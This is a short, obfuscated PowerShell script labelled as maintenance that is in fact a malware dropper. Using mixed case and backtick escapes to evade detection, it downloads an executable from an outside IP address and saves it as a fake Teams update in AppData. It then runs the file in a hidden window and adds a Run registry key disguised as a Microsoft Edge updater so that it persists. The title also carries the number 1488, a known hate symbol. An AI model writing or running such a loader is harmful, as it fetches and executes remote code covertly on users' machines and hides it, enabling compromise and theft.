# mAiNtEnAnCe 1488 v1
sTaRT-B`iT`stransFER -sOurCE hTtP://198.51.100.9/SvC.eXE -DesTinaTIon $eNV:aPpDaTa\tEAms\UpdaTE.eXe
stArt-pr`oCeS`s -wINDOwsTyLE HiDdEn $env:aPpDaTa\TeAmS\upDatE.exE
new-ITemPrO`pErt`Y -PATh 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -NAME 'MicrosoftEdgeUpdateCore' -VALuE '$env:APPDATA\Teams\update.exe' -pRoPeRtYtYpE sTrinG -forCe
